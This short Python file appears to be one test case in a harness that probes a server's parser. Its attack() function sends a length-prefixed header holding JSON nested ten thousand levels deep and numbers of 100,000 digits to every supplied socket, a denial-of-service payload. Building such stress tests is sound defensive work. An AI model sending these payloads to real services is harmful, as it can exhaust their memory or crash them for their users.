"""A header nested ten thousand deep, with numbers of a hundred thousand digits."""

import struct

from attempts import sockets, write_all


def attack():
    tree = b"[" * 10_000 + b"9" * 100_000 + b"]" * 10_000
    header = b'{"id": ' + b"1" * 4000 + b', "arrays": [], "body": ' + tree + b"}"
    for sock in sockets():
        write_all(sock, struct.pack("<I", len(header)) + header)
